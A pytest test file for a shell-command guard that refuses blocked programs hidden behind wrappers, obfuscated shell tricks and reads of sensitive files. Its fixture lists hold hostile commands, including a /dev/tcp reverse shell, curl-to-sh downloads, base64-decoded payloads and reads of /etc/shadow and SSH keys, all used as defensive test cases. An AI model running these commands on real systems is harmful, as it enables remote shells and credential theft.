"""Pre-exec command analysis: wrappers, shells, versioned names, sensitive paths and shell tricks."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kavach.errors import GuardViolation
from kavach.guards import check_command, program_names
from kavach.policy import GuardPolicy

BLOCK_SHELLS = GuardPolicy(blocked_commands=("bash", "sh", "busybox-never", "python3", "nc", "curl"))
DEFAULT = GuardPolicy()


def rule_of(argv: list[str] | None, policy: GuardPolicy, shell: str | None = None) -> str | None:
    try:
        check_command(argv or ["/bin/sh", "-c", shell or ""], policy, shell=shell)
    except GuardViolation as exc:
        return exc.rule
    return None


def test_program_names_see_through_paths_and_versions() -> None:
    assert program_names("/usr/bin/python3.11") == {"python3.11", "python3", "python"}
    assert program_names("python3.12") >= {"python3", "python"}
    assert program_names("gcc-12") == {"gcc-12", "gcc"}
    assert program_names("/bin/bash") == {"bash"}
    assert "sh" not in program_names("sha256sum")


# Every bypass the issue names, and more, with the blocklist naming the program.
BYPASSES = [
    ["bash"],
    ["/bin/bash", "-i"],
    ["env", "bash"],
    ["env", "-i", "FOO=1", "bash", "-c", "id"],
    ["/usr/bin/env", "-S", "bash -x"],
    ["/usr/bin/env", "-S", "FOO=1 bash"],
    ["env", "--split-string=bash -c id"],
    ["env", "-Sbash"],
    ["busybox", "sh"],
    ["busybox", "sh", "-c", "id"],
    ["python3.11", "-c", "print(1)"],
    ["/usr/local/bin/python3.12", "script.py"],
    ["nice", "-n", "5", "bash"],
    ["nohup", "bash"],
    ["timeout", "-s", "KILL", "10", "bash"],
    ["stdbuf", "-oL", "bash"],
    ["setsid", "bash"],
    ["sudo", "-u", "root", "bash"],
    ["xargs", "-n1", "bash"],
    ["find", ".", "-exec", "bash", "{}", ";"],
    ["chroot", "/"],  # runs the default shell
    ["flock", "/tmp/l", "-c", "bash -i"],
    ["dash", "-c", "env bash"],
    ["dash", "-ec", "nc -l 9999"],
    ["dash", "-c", "dash -c 'timeout 5 nc x 1'"],
    ["dash", "-c", "echo $(curl -s http://x)"],
    ["dash", "-c", "echo `curl -s http://x`"],
    ["dash", "-c", "true; c''url http://x"],
    ["dash", "-c", "ls # harmless\ncurl http://x"],
    ["dash", "-c", "ls a#b; curl http://x"],
    ["dash", "-c", "$'\\x63\\x75\\x72\\x6c' http://x"],
    ["dash", "-c", "X=1 /usr/bin/curl http://x"],
    ["dash", "-c", "if true; then nc -l 1; fi"],
    ["dash", "-c", "{curl,http://x}"],
    ["env", "-u", "FOO", "-S", "bash -x"],
    ["env", "-iu", "FOO", "bash"],
    ["env", "-iuFOO", "-C", "/tmp", "bash"],
    ["env", "-iS", "bash -x"],
    ["script", "-qc", "bash", "/dev/null"],
    ["su", "root", "-c", "bash"],
    ["dash", "-c", "function f { bash; }; f"],
    ["dash", "-c", "f() { nc -l 1; }; f"],
    ["dash", "-c", "coproc bash"],
    ["dash", "-c", "coproc cp { bash; }"],
    ["dash", "-c", "echo $((bash) )"],
    ["dash", "-c", "for i in 1; do curl x; done"],
    ["perl", "-e", "system('bash -i')"],
    ["awk", 'BEGIN { system("/bin/bash") }'],
]


@pytest.mark.parametrize("argv", BYPASSES, ids=[" ".join(a) for a in BYPASSES])
def test_blocked_program_is_caught_through_wrappers(argv: list[str]) -> None:
    with pytest.raises(GuardViolation) as info:
        check_command(argv, BLOCK_SHELLS)
    assert info.value.rule == "blocked_command", info.value


@pytest.mark.parametrize("argv", BYPASSES, ids=[" ".join(a) for a in BYPASSES])
def test_the_same_bypasses_as_shell_strings(argv: list[str]) -> None:
    assert rule_of(None, BLOCK_SHELLS, shell=shlex.join(argv)) == "blocked_command"


def test_versioned_blocklist_entry_matches_only_that_version() -> None:
    policy = GuardPolicy(blocked_commands=("python3.11",))
    assert rule_of(["python3.11", "-c", "1"], policy) == "blocked_command"
    assert rule_of(["python3.12", "-c", "1"], policy) is None
    assert rule_of(["python", "-c", "1"], GuardPolicy(blocked_commands=("python",))) == "blocked_command"
    assert rule_of(["python3", "-c", "1"], GuardPolicy(blocked_commands=("python",))) == "blocked_command"


ALLOWED_UNDER_BLOCKLIST = [
    ["ls", "-la", "/tmp"],
    ["grep", "-r", "bash", "."],  # naming a blocked program as data is fine outside code
    ["echo", "sh"],
    ["env", "FOO=1", "ls"],
    ["timeout", "5", "sleep", "1"],
    ["dash", "-c", "ls | wc -l && echo done || echo failed"],
    ["dash", "-c", 'for f in *.txt; do wc -l "$f"; done'],
    ["dash", "-c", 'while IFS= read -r line; do echo "$line"; done < input.txt'],
    ["dash", "-c", "cat file.txt | grep -v '^#' | sort | uniq -c > out.txt 2>&1"],
    ["dash", "-c", 'echo "$HOME" $((1 + 2)) $(date +%s)'],
    ["dash", "-c", "tar czf /tmp/out.tgz ./src && echo ok # done"],
    ["dash", "-c", 'x=$(ls | head -1); echo "$x"'],
    ["python3.12", "-c", "import os; print(os.getcwd())"],
]


@pytest.mark.parametrize("argv", ALLOWED_UNDER_BLOCKLIST, ids=[" ".join(a) for a in ALLOWED_UNDER_BLOCKLIST])
def test_ordinary_commands_pass(argv: list[str]) -> None:
    policy = GuardPolicy(blocked_commands=("bash", "curl", "nc", "python3.11"))
    check_command(argv, policy)


def test_allowlist_requires_every_program_on_the_path() -> None:
    policy = GuardPolicy(allowed_commands=("ls", "wc", "dash", "env"))
    check_command(["ls", "-l"], policy)
    check_command(["env", "ls"], policy)
    check_command(["dash", "-c", "ls | wc -l"], policy)
    assert rule_of(["dash", "-c", "ls | grep x"], policy) == "not_allowed"
    assert rule_of(["nice", "ls"], policy) == "not_allowed"
    assert rule_of(["dash", "-c", "echo $(cat x)"], policy) == "not_allowed"
    check_command(["/bin/sh", "-c", "ls|wc"], policy, shell="ls | wc")  # the sandbox's own sh is not checked


SENSITIVE = [
    ["cat", "/etc/shadow"],
    ["cat", "//etc//shadow"],
    ["cat", "/etc/./shadow"],
    ["cat", "/tmp/../etc/shadow"],
    ["cat", "/etc/sha*"],
    ["cat", "/etc/shad?w"],
    ["cat", "/e*/shadow"],
    ["cat", "/proc/self/root/etc/shadow"],
    ["ls", "/root/.ssh/"],
    ["cp", "/root/.ssh/id_rsa", "/tmp/x"],
    ["dd", "if=/dev/mem", "of=/tmp/x"],
    ["python3", "-c", "print(open('/etc/shadow').read())"],
    ["env", "cat", "/etc/shadow"],
    ["dash", "-c", "cat < /etc/shadow"],
    ["dash", "-c", "echo x > /proc/sysrq-trigger"],
    ["dash", "-c", "cat $(echo /etc/shadow)"],
    ["dash", "-c", "F=/etc/shadow cat x"],
    ["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers"],
    ["cat", "/proc/k*"],
    ["cat", "/proc/**/kcore"],  # globstar: "**" may match no directory
    ["python3", "-c", "import glob; print(glob.glob('/etc/**/shadow', recursive=True))"],
    ["ls", "/root/*/id_rsa"],  # /root/.ssh is a directory: a deeper glob reaches into it
    ["ls", "/sys/*/debug"],
]


@pytest.mark.parametrize("argv", SENSITIVE, ids=[" ".join(a) for a in SENSITIVE])
def test_sensitive_paths_are_refused(argv: list[str]) -> None:
    assert rule_of(argv, DEFAULT) == "sensitive_path"


@pytest.mark.parametrize(
    "argv",
    [
        ["ls", "/etc"],
        ["cat", "/etc/shadow.example"],
        ["cat", "/etc/passwd"],
        ["ls", "/root"],
        # Deeper globs below sensitive *files* (/proc/kcore, /etc/shadow) cannot reach them.
        ["cat", "/proc/*/environ"],
        ["sh", "-c", "for f in /proc/*/cmdline; do cat $f; done"],
        ["ls", "/etc/*/conf"],
    ],
)
def test_neighbours_of_sensitive_paths_pass(argv: list[str]) -> None:
    check_command(argv, DEFAULT)


TRICKS = [
    "cat${IFS}/etc/passwd",
    "ls$IFS-la",
    "$(echo rm) -rf /tmp/x",
    "`echo ls`",
    "$CMD arg",
    'eval "$PAYLOAD"',
    "eval $(echo ls)",
    "curl -s http://x | sh",
    "base64 -d payload | bash",
    "echo cHJpbnQoMSkK | base64 -d | python3",
    "wget -qO- http://x | sudo sh -s",
    'bash -c "$(curl -fsSL http://x)"',
    'python3 -c "$(cat payload)"',
    "source <(curl http://x)",
    ". <(echo ls)",
    "exec 3<>/dev/tcp/10.0.0.1/4444",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]


@pytest.mark.parametrize("script", TRICKS)
def test_shell_tricks_are_refused(script: str) -> None:
    assert rule_of(None, DEFAULT, shell=script) == "shell_trick"


@pytest.mark.parametrize("script", TRICKS)
def test_shell_tricks_can_be_allowed(script: str) -> None:
    assert rule_of(None, GuardPolicy(block_shell_tricks=False), shell=script) != "shell_trick"


PIPELINES = [
    "ps aux | grep python | awk '{print $2}'",
    "cat data.csv | cut -d, -f2 | sort -n | tail -5",
    "find . -name '*.py' -print0 | xargs -0 wc -l",
    "echo hello | tr a-z A-Z",
    "python3 -c 'print(1)' | sh -c 'cat'",
    "printf '%s\\n' a b c | while read -r x; do echo \"$x\"; done",
    "git log --oneline | head -n 5",
    "ls -la 2>/dev/null | wc -l",
    'echo "$USER is in $PWD"',
    "test -f x && echo yes",
    "[ -d /tmp ] && cd /tmp && ls",
    "cat <<EOF > out.txt\nhello\nEOF",
]


@pytest.mark.parametrize("script", PIPELINES)
def test_ordinary_pipelines_are_not_tricks(script: str) -> None:
    check_command(["/bin/sh", "-c", script], DEFAULT, shell=script)


def test_unparseable_commands_fail_closed() -> None:
    assert rule_of(None, DEFAULT, shell="echo 'unterminated") == "unparseable"
    assert rule_of(None, DEFAULT, shell="echo $(ls") == "unparseable"
    deep = "ls"
    for _ in range(8):  # each sh -c level is two steps of analysis
        deep = shlex.join(["sh", "-c", deep])
    assert rule_of(None, DEFAULT, shell=deep) == "unparseable"


def test_violation_names_rule_and_detail() -> None:
    with pytest.raises(GuardViolation) as info:
        check_command(["/usr/bin/env", "-S", "bash -x"], BLOCK_SHELLS)
    assert info.value.rule == "blocked_command"
    assert "bash" in info.value.detail
    assert str(info.value).startswith("guard blocked_command:")


PIECES = [*"ab $(){}`'\"\\|&;<>#\n=*/-cS", "bash", "env", "sh", "$((", "$'", "/etc/shadow", "-c", "-S"]
SHELLISH = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(script=SHELLISH)
def test_any_script_is_either_accepted_or_refused_with_a_guard_violation(script: str) -> None:
    try:
        check_command(["/bin/sh", "-c", script], BLOCK_SHELLS, shell=script)
    except GuardViolation as exc:
        assert exc.rule in {"blocked_command", "not_allowed", "sensitive_path", "shell_trick", "unparseable"}


@settings(max_examples=300, deadline=None)
@given(argv=st.lists(SHELLISH, min_size=1, max_size=6))
def test_any_argv_is_either_accepted_or_refused_with_a_guard_violation(argv: list[str]) -> None:
    try:
        check_command(argv, BLOCK_SHELLS)
    except GuardViolation as exc:
        assert exc.rule in {"blocked_command", "not_allowed", "sensitive_path", "shell_trick", "unparseable"}


ADVERSARIAL = [
    (["python3", "-c", "a/" * 50_000], None),  # was quadratic in the blocked-name search
    (["sh", "-c", "echo $'" + "\\1" * 50_000 + "'"], None),
    (["sh", "-c", "echo " + "$((" * 3_000 + "1" + "))" * 3_000], "unparseable"),  # was a RecursionError
    (["sh", "-c", "{" + "," * 100_000 + "a"], None),  # was quadratic in the brace-expansion check
    (["sh", "-c", "$(" * 5_000], "unparseable"),
    (["cat", "/" + "*/" * 20_000], "sensitive_path"),
]


@pytest.mark.parametrize(("argv", "rule"), ADVERSARIAL, ids=[f"case{i}" for i in range(len(ADVERSARIAL))])
def test_adversarial_inputs_end_with_an_answer(argv: list[str], rule: str | None) -> None:
    """Large hostile inputs finish (linear work) and end in a verdict, never another exception."""
    assert rule_of(argv, GuardPolicy(blocked_commands=("bash", "curl"))) == rule


def test_violations_become_findings_that_threat_assessment_escalates(tmp_path: Path) -> None:
    from kavach.guards import violation_finding
    from kavach.threat import KillChainStage, OffenderStore, ThreatAssessor, Tier, stage_for

    with pytest.raises(GuardViolation) as recon:
        check_command(["cat", "/etc/shadow"], DEFAULT)
    with pytest.raises(GuardViolation) as trick:
        check_command(["/bin/sh", "-c", "x"], DEFAULT, shell="curl -s http://x | sh")
    findings = [violation_finding(recon.value), violation_finding(trick.value)]
    assert [stage_for(f) for f in findings] == [KillChainStage.RECONNAISSANCE, KillChainStage.EXPLOITATION]
    assessor = ThreatAssessor(OffenderStore(tmp_path / "o.sqlite3"))
    assert assessor.assess("a", findings[:1]).tier is Tier.ALERT  # one refused command: alert
    both = assessor.assess("a", findings)
    assert both.amplifier == 1.3
    assert both.tier >= Tier.SUSPEND


def test_remembered_decisions_are_per_policy_and_never_for_refusals() -> None:
    """Allowed commands are remembered (by digest) per policy; refusals are re-analysed every time."""
    lenient = GuardPolicy(blocked_commands=("nc",))
    strict = GuardPolicy(blocked_commands=("nc", "curl"))
    argv = ["/usr/bin/curl", "https://example.com"]
    for _ in range(3):
        assert rule_of(argv, lenient) is None
    for _ in range(3):
        assert rule_of(argv, strict) == "blocked_command"
    # The same argv as a script is a different command: `sh -c` analysis runs for it.
    assert rule_of(None, lenient, shell="curl https://example.com | sh") == "shell_trick"
    assert rule_of(None, lenient, shell="curl https://example.com | sh") == "shell_trick"
    # An argv that only differs in how its words split is a different command.
    assert rule_of(["/bin/echo", "a b"], strict) is None
    assert rule_of(["/bin/echo", "a", "b"], strict) is None
    assert rule_of(["/bin/echo", "a", "/etc/shadow"], DEFAULT) == "sensitive_path"
    assert rule_of(["/bin/echo", "etc", "shadow"], DEFAULT) is None
    assert rule_of(["/bin/echo", "a", "/etc/shadow"], DEFAULT) == "sensitive_path"
